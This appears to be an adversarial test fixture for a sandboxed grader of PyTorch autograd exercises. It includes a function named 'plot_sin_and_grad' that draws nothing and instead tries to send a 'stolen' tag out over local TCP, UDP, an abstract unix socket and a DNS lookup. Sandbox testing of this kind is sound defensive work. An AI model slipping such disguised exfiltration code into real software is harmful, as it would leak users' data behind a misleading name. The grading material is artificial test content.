# threat: network: a TCP connection to a listener on this machine, UDP, an abstract unix socket, DNS
# expect: full=double-backward attacked=sin-derivative-plot/plot
"""Tries to send its source out through every kind of socket."""

import socket

import torch

TAG = "adversarial-tag"
PORT = 47017


def sin_and_grad(x):
    x = x.detach().clone().requires_grad_(True)
    y = torch.sin(x)
    y.sum().backward()
    return y.detach(), x.grad


def _try(name, action):
    try:
        action()
        print(name, "sent")
    except OSError as error:
        print(name, "failed:", error)


def _tcp():
    with socket.create_connection(("127.0.0.1", PORT), timeout=1) as connection:
        connection.sendall(b"stolen " + TAG.encode())


def _udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagram:
        datagram.sendto(b"stolen " + TAG.encode(), ("127.0.0.1", PORT))


def _abstract_unix():
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as local:
        local.connect("\0" + TAG)
        local.sendall(b"stolen")


def plot_sin_and_grad(x):
    _try("tcp", _tcp)
    _try("udp", _udp)
    _try("unix", _abstract_unix)
    _try("dns", lambda: socket.getaddrinfo("example.com", 80))


# Untouched: a correct answer to the double-backward exercise.


def backward_twice(x):
    x = x.detach().clone().requires_grad_(True)
    y = 2 * torch.dot(x, x)
    y.backward()
    y.backward()


def backward_twice_retained(x):
    x = x.detach().clone().requires_grad_(True)
    y = 2 * torch.dot(x, x)
    y.backward(retain_graph=True)
    y.backward()
    return x.grad


def backward_twice_zeroed(x):
    x = x.detach().clone().requires_grad_(True)
    y = 2 * torch.dot(x, x)
    y.backward(retain_graph=True)
    x.grad.zero_()
    y.backward()
    return x.grad
